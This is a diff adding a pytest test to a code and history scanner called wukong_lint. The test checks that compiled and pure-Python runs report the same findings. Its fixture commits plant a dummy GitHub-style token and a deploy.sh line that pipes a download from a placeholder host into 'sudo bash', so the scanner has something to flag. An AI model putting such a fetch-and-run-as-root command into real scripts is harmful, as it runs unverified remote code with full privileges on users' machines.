@@ -19,6 +19,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.conftest import commit
 from wukong_lint import native
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -60,6 +61,24 @@ def test_compiled_and_pure_python_give_the_same_reports(profile: str, tmp_path: 
             *(str(p) for p in _transcripts())]  # fmt: skip
     compiled, pure = _report(_run(args, False)), _report(_run(args, True))
     assert compiled["findings"], "the fixtures make findings"
+    assert compiled == pure
+
+
+@pytest.mark.skipif(not COMPILED, reason=f"no compiled build here: {native.status()}")
+def test_compiled_and_pure_python_give_the_same_folder_and_history_reports(repo: Path):
+    """The scan loop, matchers, filters and masking run compiled for every source: the
+    example project and every fixture folder (code, commands, memory banks), and a git
+    history with secrets added and removed."""
+    args = ["check", "--format", "json", str(ROOT / "examples"), str(FIXTURES)]
+    compiled, pure = _report(_run(args, False)), _report(_run(args, True))
+    assert len(compiled["findings"]) > 100
+    assert compiled == pure
+    commit(repo, "app.py", f"TOKEN = 'ghp_{'Ab3x' * 9}'\n", "add")
+    commit(repo, "app.py", "import os\nTOKEN = os.environ['TOKEN']\n", "fix")
+    commit(repo, "deploy.sh", "curl -s https://x.example/i.sh | sudo bash\n", "deploy")
+    args = ["check", "--format", "json", "--history"]
+    compiled, pure = _report(_run(args, False, repo)), _report(_run(args, True, repo))
+    assert compiled["findings"]
     assert compiled == pure
 
 
